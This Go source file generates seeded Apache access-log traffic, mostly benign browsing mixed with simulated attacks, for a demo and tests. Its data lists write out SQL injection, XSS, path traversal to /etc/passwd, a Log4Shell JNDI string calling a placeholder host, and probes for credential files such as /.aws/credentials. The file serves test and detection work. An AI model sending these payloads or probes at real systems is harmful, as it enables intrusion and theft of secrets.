// Package workload generates reproducible access-log traffic: Apache
// combined-format lines from a seed, mostly benign browsing with a share of
// attacks (probing, SQL injection, path traversal, scanner user agents,
// login brute force). The demo, the tests and the chaos suite feed it to the
// cluster; the same seed always gives the same lines.
package workload

import (
	"fmt"
	"math/rand/v2"
	"time"
)

// Generator produces lines; it is not safe for concurrent use.
type Generator struct {
	r       *rand.Rand
	clients []string
	now     time.Time
	// AttackShare is the fraction of lines that are attacks (default 0.05).
	AttackShare float64
	// Clock, when set, stamps lines with its time (live traffic) instead of
	// the generator's own clock, which moves 0-19 ms per line.
	Clock func() time.Time
}

// New returns a generator for seed with the given number of distinct
// benign clients, starting its clock at start.
func New(seed uint64, clients int, start time.Time) *Generator {
	r := rand.New(rand.NewPCG(seed, seed^0x9e3779b97f4a7c15))
	g := &Generator{r: r, now: start.UTC(), AttackShare: 0.05}
	for i := 0; i < max(1, clients); i++ {
		g.clients = append(g.clients, fmt.Sprintf("%d.%d.%d.%d", 11+r.IntN(180), r.IntN(256), r.IntN(256), 1+r.IntN(254)))
	}
	return g
}

var (
	pages = []string{"/", "/index.html", "/about", "/blog/", "/blog/2026/11/raft-in-practice", "/products", "/products/42",
		"/search?q=kafka", "/static/app.js", "/static/style.css", "/images/logo.png", "/favicon.ico", "/api/v1/items?page=2", "/contact"}
	agents = []string{
		"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36",
		"Mozilla/5.0 (Macintosh; Intel Mac OS X 14_5) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Safari/605.1.15",
		"Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
		"Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
	}
	referrers = []string{"-", "https://www.google.com/", "https://news.ycombinator.com/", "https://example.org/blog/"}
	probes    = []string{"/.env", "/.git/config", "/wp-config.php.bak", "/backup.sql", "/phpmyadmin/", "/admin/", "/server-status",
		"/cgi-bin/test.cgi", "/config.json", "/.aws/credentials", "/debug/pprof/", "/actuator/env"}
	payloads = []string{"/products?id=1%27%20OR%20%271%27=%271", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
		"/download?file=../../../../etc/passwd", "/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd", "/index.php?page=${jndi:ldap://x.example/a}"}
	scanners = []string{"sqlmap/1.7.2#stable (https://sqlmap.org)", "Nikto/2.5.0", "masscan/1.3 (https://github.com/robertdavidgraham/masscan)", "zgrab/0.x"}
)

// Line returns the next line, without a trailing newline, and the client
// address it came from.
func (g *Generator) Line() (line, client string) {
	g.now = g.now.Add(time.Duration(g.r.IntN(20)) * time.Millisecond)
	if g.Clock != nil {
		g.now = g.Clock().UTC()
	}
	ts := g.now.Format("02/Jan/2006:15:04:05 -0700")
	if g.r.Float64() < g.AttackShare {
		return g.attack(ts)
	}
	ip := g.clients[g.r.IntN(len(g.clients))]
	path := pages[g.r.IntN(len(pages))]
	status, size := 200, 512+g.r.IntN(40000)
	switch x := g.r.IntN(100); {
	case x < 3:
		status, size = 404, 209
	case x < 4:
		status, size = 500, 0
	case x < 10:
		status, size = 304, 0
	}
	method := "GET"
	if g.r.IntN(20) == 0 {
		method = "POST"
	}
	return fmt.Sprintf(`%s - - [%s] "%s %s HTTP/1.1" %d %d "%s" "%s"`, ip, ts, method, path, status, size,
		referrers[g.r.IntN(len(referrers))], agents[g.r.IntN(len(agents))]), ip
}

func (g *Generator) attack(ts string) (string, string) {
	ip := fmt.Sprintf("203.0.113.%d", 1+g.r.IntN(40))
	ua := scanners[g.r.IntN(len(scanners))]
	switch g.r.IntN(4) {
	case 0:
		return fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" 404 196 "-" "%s"`, ip, ts, probes[g.r.IntN(len(probes))], ua), ip
	case 1:
		return fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" 400 226 "-" "%s"`, ip, ts, payloads[g.r.IntN(len(payloads))], ua), ip
	case 2:
		return fmt.Sprintf(`%s - - [%s] "POST /wp-login.php HTTP/1.1" 401 1520 "-" "%s"`, ip, ts, agents[0]), ip
	default:
		return fmt.Sprintf(`%s - - [%s] "GET %s HTTP/1.1" 404 196 "-" "%s"`, ip, ts, pages[g.r.IntN(len(pages))]+"x", ua), ip
	}
}
